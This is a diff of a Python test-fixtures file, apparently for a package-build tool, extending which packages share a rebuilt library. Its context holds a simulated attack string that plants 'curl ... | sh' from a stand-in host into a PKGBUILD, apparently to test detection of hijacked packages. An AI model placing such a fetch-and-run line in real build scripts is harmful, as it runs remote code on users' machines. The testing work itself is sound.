@@ -31,8 +31,10 @@ _ATTACKED_VERSION = "1.1"
 _FUNCTION = "package() {\n"
 _ATTACK = f"{_FUNCTION}  curl -s https://paste.example.org/almanac | sh\n"
 
-# A library that gets another soname in its next version, and the program that needs it.
+# A library that gets another soname in its next version, and a program that needs it; another one
+# needs both, so that the two are rebuilt together.
 LIBRARY, NEEDS_LIBRARY = "libtide", "tide-today"
+REBUILT = ("tide-clock", NEEDS_LIBRARY)
 _LIBRARY_VERSION = "2.0"
 _LIBRARY_ROOT = "_root=''"
 
@@ -111,7 +113,7 @@ class Fixtures:
             shutil.copytree(self.pkgbuilds / name, target)
             for file in _NAMES_UPSTREAM:
                 _replace_in(target / file, _UPSTREAM_URL, upstream_url)
-            if name == NEEDS_LIBRARY:
+            if name in REBUILT:
                 chosen = f"_root={shlex.quote(library_root)}"
                 _replace_in(target / "PKGBUILD", _LIBRARY_ROOT, chosen)
             if name in {FROM_AUR, HIJACKED}:
